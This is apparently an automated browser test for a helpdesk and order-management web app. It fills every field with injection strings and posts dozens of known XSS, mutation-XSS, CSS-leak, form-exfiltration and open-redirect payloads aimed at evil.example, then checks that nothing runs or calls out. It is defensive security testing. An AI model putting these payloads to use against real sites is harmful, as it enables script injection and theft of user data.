// Hostile texts in every field that a screen shows, and a corpus of hostile HTML in messages, opened in a browser
// under the real content policy: nothing runs, nothing is fetched from elsewhere, and the policy has nothing to
// stop, because nothing hostile gets that far.
import { setup, signIn } from "../lib/server.mjs";
import { admin } from "./cast.mjs";

const outside = "https://evil.example";

/** Texts that would run if a screen took them for markup, an attribute, an address or a template. */
const texts = [
  `<img src=${outside}/i onerror=__hit(1)>`,
  `"><script>__hit(2)</script>`,
  `'><svg/onload=__hit(3)>`,
  `javascript:__hit(4)`,
  "{{constructor.constructor('__hit(5)')()}}",
  "${__hit(6)} #{__hit(6)}",
  `</title></textarea></style><iframe src="javascript:parent.__hit(7)">`,
  `" autofocus onfocus=__hit(8) x="`,
  `<a href=//evil.example>\u202emoc.elpmaxe</a>`,
];

/** HTML that has got past sanitisers elsewhere, written anew, with this test's own sentinel. */
const pages = [
  `<script>__hit('h1')</script>`,
  `<ScRiPt src=${outside}/x.js></sCrIpT>`,
  `<img src=x onerror=__hit('h3')>`,
  `<img src="${outside}/pixel.gif">`,
  `<img srcset="${outside}/a 1x, ${outside}/b 2x">`,
  `<picture><source srcset="${outside}/c"><img alt=x></picture>`,
  `<svg onload=__hit('h7')><script>__hit('h7')</script></svg>`,
  `<svg><animate onbegin=__hit('h8') attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>__hit('h9')</script></svg>#x">`,
  `<svg><foreignObject><iframe src="javascript:parent.__hit('h10')"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit('h11')&gt;">`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:__hit('h12')">x</maction></math>`,
  `<xmp><img src=x onerror=__hit('h13')></xmp><xmp></xmp><img src=x onerror=__hit('h13')>`,
  `<noscript><p title="</noscript><img src=x onerror=__hit('h14')>">`,
  `<style>@import url(${outside}/s.css); body{background:url(${outside}/b)}</style>`,
  `<style>input[value^="a"]{background:url(${outside}/leak?a)}</style>`,
  `<link rel=stylesheet href=${outside}/l.css><link rel=prefetch href=${outside}/p>`,
  `<meta http-equiv=refresh content="0;url=${outside}/">`,
  `<base href="${outside}/"><a href="x">x</a>`,
  `<iframe srcdoc="<script>parent.__hit('h20')</script>"></iframe>`,
  `<iframe src="${outside}/f"></iframe><frame src="${outside}"><object data="${outside}/o"></object><embed src="${outside}/e">`,
  `<form action="${outside}/steal" id=f><input name=a value=b autofocus onfocus=__hit('h22')></form><button form=f formaction="${outside}">x</button>`,
  `<a href="javascript:__hit('h23')" id=run>x</a>`,
  `<a href="jav&#x09;ascript:__hit('h24')">x</a><a href=" &#14; javascript:__hit('h24')">y</a><a href="JaVaScRiPt&colon;__hit('h24')">z</a>`,
  `<a href="data:text/html,<script>opener.__hit('h25')</script>">x</a><a href="vbscript:x">y</a><a href="//evil.example">z</a>`,
  `<div style="background:url(${outside}/d);position:fixed;inset:0;z-index:9999">x</div>`,
  `<p style="x:expression(__hit('h27'))" class="fixed inset-0">x</p>`,
  `<details open ontoggle=__hit('h28')><summary>x</summary></details>`,
  `<video src="${outside}/v" poster="${outside}/p" onerror=__hit('h29') autoplay></video><audio src=x onerror=__hit('h29')></audio>`,
  `<body onload=__hit('h30') background="${outside}/g"><table background="${outside}/t"><td background="${outside}/u">x</td></table>`,
  `<input type=image src="${outside}/n" onerror=__hit('h31')><isindex type=image src=x onerror=__hit('h31')>`,
  `<marquee onstart=__hit('h32')>x</marquee><keygen autofocus onfocus=__hit('h32')><select autofocus onfocus=__hit('h32')>`,
  `<template><script>__hit('h33')</script></template><slot onslotchange=__hit('h33')></slot>`,
  `<p id=__hits name=location>x</p><form id=document name=body><input name=attributes></form>`,
  `<!--><img src=x onerror=__hit('h35')>--><![CDATA[<img src=x onerror=__hit('h35')>]]>`,
  `<?xml-stylesheet href="${outside}/x"?><!DOCTYPE x [<!ENTITY e "<script>__hit('h36')</script>">]>&e;`,
  `<img src="/api/v1/files/../auth/logout"><img src="/api/v1/auth/me">`,
  `<span data-type=mention data-id="x" onclick=__hit('h38')>x</span><blockquote cite="javascript:__hit('h38')">q</blockquote>`,
  `<p dir="rtl\u0000" title=\u0060\u0060onmouseover=__hit('h39')>x</p>`.replaceAll("\u0000", "&#0;"),
  `<a ping="${outside}/ping" href="https://example.com/">x</a><link rel=dns-prefetch href=//evil.example>`,
  `${"<div>".repeat(300)}<script>__hit('h41')</script>`,
  `<b><p></b><script>__hit('h42')</script></p><svg></p><style><a id="</style><img src=1 onerror=__hit('h42')>">`,
  `<portal src="${outside}"></portal><fencedframe></fencedframe><img lowsrc="${outside}/l" dynsrc="${outside}/d">`,
];

export default async function hostile(stage) {
  await stage.open({ before: (place) => setup(place) });
  const { token } = await signIn(stage.url);
  const api = (method, path, body) => stage.api(token, method, path, body);
  const cut = (text, n) => text.slice(0, n);
  const tickets = [];
  let customer, order, product; // the last ones

  await api("PUT", "/settings", { name: cut(texts[0], 100) });
  await api("PATCH", "/auth/me", { name: cut(texts[1], 100) });
  const { data: roles } = await api("GET", "/roles");
  const agent = roles.find((r) => r.key === "agent").id;
  for (const object of ["tickets", "customers", "orders", "products"]) {
    await api("POST", "/fields", { object, key: "hostile", label: cut(texts[2], 60), type: "text" });
    await api("POST", "/fields", { object, key: "choice", label: "Choice", type: "list", options: [cut(texts[0], 60), "plain"] });
  }
  const fill = async (text, i) => {
    const fields = { hostile: text, choice: cut(texts[0], 60) };
    const tag = await api("POST", "/tags", { name: cut(`${i}${text}`, 40), colour: "#2563eb" });
    const group = await api("POST", "/groups", { name: cut(`${i}${text}`, 60), description: text });
    const user = await api("POST", "/users", { name: cut(`${i} ${text}`, 100), email: `u${i}@example.com`, password: "First-pass-1", roleId: agent });
    await api("POST", "/teams", { name: cut(`${i}${text}`, 60), memberIds: [user.id] });
    await api("POST", "/roles", { name: cut(`${i}${text}`, 60), description: text, permissions: ["orders:read"] });
    await api("POST", "/escalation-contacts", { name: cut(text, 60), duty: cut(text, 60), note: text, email: `e${i}@example.com`, phone: "+15550100" });
    const address = { line1: text, city: cut(text, 60), country: "GB" };
    const buyer = await api("POST", "/customers", { firstName: cut(text, 60), lastName: cut(text, 60), company: text, level: cut(text, 40), email: `c${i}@example.com`, address, fields, groupIds: [group.id] });
    await api("POST", `/customers/${buyer.id}/notes`, { body: text });
    await api("POST", `/customers/${buyer.id}/tags`, { tags: [tag.name] });
    const goods = await api("POST", "/products", { title: text, description: text, sku: cut(`${i}${text}`, 40), price: { amount: 100, currency: "GBP" }, inventory: 3, fields });
    const bought = await api("POST", "/orders", {
      customerId: buyer.id, currency: "GBP", number: cut(`${i}${text}`, 40), source: cut(text, 40), kind: "sale", status: "paid", placedAt: new Date(Date.now() - 3.6e6).toISOString(), fields,
      lines: [{ title: text, sku: cut(text, 40), quantity: 1, unitPrice: "1.00" }],
    });
    await api("POST", `/orders/${bought.id}/notes`, { body: text });
    await api("POST", "/transactions", { orderId: bought.id, customerId: buyer.id, kind: "payment", method: cut(text, 20), reference: cut(text, 60), amount: { amount: 100, currency: "GBP" } });
    const form = new FormData();
    form.append("file", new Blob([`hello ${text}`], { type: "text/plain" }), `${cut(text, 60)}.txt`);
    const sent = await fetch(`${stage.url}/api/v1/media/upload`, { method: "POST", body: form, headers: { authorization: `Bearer ${token}` } });
    if (sent.status !== 201) throw new Error(`upload: ${sent.status} ${await sent.text()}`);
    const file = await sent.json();
    tickets[i] = await api("POST", "/tickets", { title: text, description: text, customerId: buyer.id, category: cut(text, 40), type: cut(text, 40), tags: [tag.name], fields, attachments: [file.id] });
    [customer, order, product] = [buyer, bought, goods];
  };
  await Promise.all(texts.map(fill));
  // The corpus of HTML: a dozen messages a ticket, from the customer, from staff and as notes.
  const write = (html, i) =>
    api("POST", `/tickets/${tickets[i % 4].id}/messages`, { html: `<p>page ${i}</p>${html}`, body: html, ...[{ author: "customer" }, {}, { internal: true }][i % 3] });
  await Promise.all(pages.map(write));
  await api("PUT", `/tickets/${tickets[4].id}/draft`, { html: pages.join("").slice(0, 20_000), internal: false });

  const page = await stage.person("an administrator");
  page.expect(/status of 401/);
  const wrong = (text) => stage.problems.push(text);
  page.on("dialog", async (dialog) => {
    wrong(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("request", (r) => {
    const { protocol, origin } = new URL(r.url());
    if (!["data:", "blob:"].includes(protocol) && origin !== stage.url) wrong(`a request to ${r.url()}`);
  });
  page.on("popup", (other) => wrong(`a window of ${other.url()}`));
  page.context().on("page", (other) => other !== page && wrong("another page was opened"));
  await page.exposeFunction("__tell", (what) => wrong(what));
  await page.addInitScript(() => {
    globalThis.__hit = (what) => globalThis.__tell(`it ran: ${what}`);
    for (const name of ["alert", "confirm", "prompt"]) globalThis[name] = () => globalThis.__tell(name);
    document.addEventListener("securitypolicyviolation", (e) => globalThis.__tell(`the policy had to stop ${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
  });

  // Where sign-in leads to: never away, however it is spelt.
  const enter = async () => {
    await page.getByLabel("E-mail").fill(admin.email);
    await page.getByLabel("Password", { exact: true }).fill(admin.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.waitForURL(/\/inbox/);
  };
  for (const to of ["//evil.example/inbox", "/\t/evil.example/inbox", "/\\evil.example/inbox"]) {
    await page.goto(`/sign-in?to=${encodeURIComponent(to)}`);
    await enter();
    if (new URL(page.url()).origin !== stage.url) wrong(`sign-in leads to ${page.url()}`);
    await page.context().clearCookies();
  }
  await page.goto("/sign-in");
  await enter();

  // Whether the sentinel works at all: without this the whole journey could not fail.
  await page.evaluate(() => globalThis.__hit("a test of the test"));
  const mark = stage.problems.findIndex((p) => p === "it ran: a test of the test");
  if (mark < 0) throw new Error("the sentinel tells nothing");
  stage.problems.splice(mark, 1);

  const quiet = async () => {
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    await page.waitForFunction(() => !document.querySelector("main [aria-busy=true]") && ![...document.querySelectorAll("[role=status]")].some((e) => e.textContent.trim() === "Loading…"));
  };
  let shown = 0;
  const look = async (path) => {
    await page.goto(path);
    await quiet();
    shown += 1;
  };
  for (const [i, ticket] of tickets.slice(0, 6).entries()) {
    await look(`/inbox/${ticket.id}`);
    await page.getByRole("log", { name: "Messages" }).getByRole("article").first().waitFor();
    if (i < 4 && (await page.getByText(`page ${i}`, { exact: true }).count()) === 0) wrong(`ticket ${i} does not show its messages`);
  }
  for (const path of ["/inbox/all", "/dashboard", "/customers", "/orders", `/orders/${order.id}`, "/products", `/products/${product.id}`, "/account"]) await look(path);
  await look(`/customers/${customer.id}`);
  for (const tab of await page.getByRole("tab").all()) {
    await tab.click();
    await quiet();
  }
  for (const section of ["workspace", "users", "roles", "teams", "fields", "tags", "escalation", "mail", "audit"]) await look(`/settings/${section}`);
  await page.keyboard.press("Control+k");
  await page.getByRole("dialog").getByRole("combobox").fill("evil");
  await page.getByRole("dialog").getByRole("option").first().waitFor();
  await page.keyboard.press("Escape");
  if (shown < 24) wrong(`only ${shown} pages were seen`);
  process.stdout.write(`note: hostile: ${texts.length} texts in every field, ${pages.length} pieces of HTML, ${shown} pages\n`);
}
